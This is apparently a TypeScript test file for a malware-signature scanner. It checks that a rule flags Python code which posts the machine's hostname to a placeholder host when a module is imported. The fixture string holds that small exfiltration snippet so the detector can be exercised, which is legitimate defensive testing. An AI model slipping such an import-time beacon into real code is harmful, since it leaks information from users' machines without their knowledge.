import { fileURLToPath } from 'node:url';
import { expect, it } from 'vitest';
import { completeSet, loadSignatures, scanSignatures } from '../../../src/signatures/index.js';
import { memoryTree } from '../../support/memory-tree.js';

const signatures = completeSet(
  await loadSignatures(fileURLToPath(new URL('../../../signatures', import.meta.url))),
);
const code = (run: string) =>
  `import socket, requests\ndef tell():\n  requests.post('https://c.example.invalid', data=socket.gethostname())\n${run}`;

it.each([
  ['tell()\n', 1],
  ['', 0],
])('tells what runs when a module is imported: %j', async (run, count) => {
  const tree = memoryTree({ 'pkg/a.py': code(run) });
  const { findings } = await scanSignatures({ tree, packages: [], signatures });
  const found = findings.filter(({ rule }) => rule === 'python/host-sent-on-import');
  expect(found).toHaveLength(count);
  expect(
    found.every(({ evidence }) => evidence.some(({ detail }) => detail?.includes('gethostname()'))),
  ).toBe(true);
});
